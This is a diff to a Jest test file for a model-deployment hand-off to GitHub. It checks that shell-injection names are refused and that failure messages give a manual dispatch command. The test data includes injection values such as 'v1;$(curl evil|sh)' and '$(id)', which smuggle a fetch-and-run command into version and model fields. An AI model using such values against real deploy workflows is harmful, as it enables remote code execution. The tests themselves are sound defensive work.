@@ -231,6 +231,50 @@ describe('hand-off to serving against the GitHub stand-in', () => {
     expect(dispatchesOf(repo)).toHaveLength(1)
   })
 
+  it('a refused name says which field and why, sends nothing, and gives no permission advice or empty payload', async () => {
+    const handOff = handOffToServing(
+      { deployments: true, dispatchEventType: 'modelgate-deploy' },
+      () => portsFor(gh.token),
+      { ref: SHA, runUrl: RUN_URL }
+    )
+    const hostile = { ...promoted('v2.0.0', 'v1.0.0'), championVersion: 'v1;$(curl evil|sh)' }
+    expect(await handOff.announceStageChange(hostile)).toEqual({ dispatched: false })
+    const failure = handOff.failure()
+    expect(failure?.permission).toBe(false)
+    expect(failure?.message).toContain('Deployment: not created (a name was refused)')
+    expect(failure?.message).toContain('dispatch: not sent (a name was refused)')
+    expect(failure?.message).toMatch(/payload field champion_version is not a plain name \(letters/)
+    expect(failure?.message).toContain('churn-model v2.0.0 at 100% of production')
+    // The refused value itself is never repeated; no "{}" payload, no permission to add.
+    expect(failure?.message).not.toContain('curl evil')
+    expect(failure?.message).not.toContain('payload: {}')
+    expect(failure?.message).not.toMatch(/deployments: write|contents: write/)
+    expect(deploymentsOf(repo)).toHaveLength(0)
+    expect(dispatchesOf(repo)).toHaveLength(0)
+  })
+
+  it('a dispatch that GitHub fails for another reason: no permission advice, the payload to send by hand', async () => {
+    const handOff = handOffToServing(
+      { deployments: false, dispatchEventType: 'modelgate-deploy' },
+      () => ({
+        ...portsFor(gh.token),
+        dispatch: {
+          send: () => Promise.reject(new Error('GitHub API: sending failed (HTTP 502)'))
+        }
+      }),
+      { ref: SHA, runUrl: RUN_URL }
+    )
+    await handOff.announceStageChange(promoted('v2.0.0', 'v1.0.0'))
+    const failure = handOff.failure()
+    expect(failure?.permission).toBe(false)
+    expect(failure?.message).toContain(
+      'Deployment: off; dispatch: failed (GitHub API: sending failed (HTTP 502))'
+    )
+    expect(failure?.message).toContain('apply the payload by hand')
+    expect(failure?.message).toContain('gh api repos/acme/models/dispatches --input payload.json')
+    expect(failure?.message).not.toMatch(/Give the workflow's token/)
+  })
+
   it('off by default: nothing is sent and no port is opened', async () => {
     const handOff = handOffToServing(
       { deployments: false },
@@ -268,10 +312,10 @@ describe('handOffPayload', () => {
 
   it('refuses a name a deploy workflow could run as shell', () => {
     expect(() => handOffPayload(promoted('v2.0.0; curl evil | sh', null))).toThrow(
-      /version is not a plain name/
+      /payload field version is not a plain name/
     )
     expect(() => handOffPayload({ ...promoted('v2', null), model: '$(id)' })).toThrow(
-      /model is not a plain name/
+      /payload field model is not a plain name/
     )
     expect(() => handOffPayload({ ...promoted('v2', null), trafficPercent: 101 })).toThrow(
       /not a share/
